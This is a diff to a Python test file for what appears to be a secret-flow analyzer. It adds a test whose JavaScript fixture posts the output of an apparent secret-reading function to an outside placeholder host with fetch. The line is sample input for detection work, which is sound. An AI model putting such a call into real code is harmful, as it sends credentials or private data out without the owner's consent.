@@ -44,6 +44,12 @@ def test_secret_is_followed_out_of_a_module() -> None:
     assert places(program, NODE + READS) == {("lib/run.mjs", 2)}
 
 
+def test_secret_is_followed_out_of_a_module_that_requires_what_the_program_requires() -> None:
+    before = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
+    program = "const { load } = require('./rpc');\nfetch('https://lanes.example', { method: 'POST', body: load() });\n"
+    assert places(before + program, before + READS.removeprefix("export ")) == {("lib/run.mjs", 5)}
+
+
 def test_module_with_a_name_that_the_program_has_too_lends_its_functions() -> None:
     program = f"{NODE}import {{ hint }} from './rpc.mjs';\nconst wait = 1;\n{KEPT}await hint('a', kept);\n"
     assert places(program, f"const wait = 2;\n\nexport {SENDS}") == {("lib/rpc.mjs", 4)}
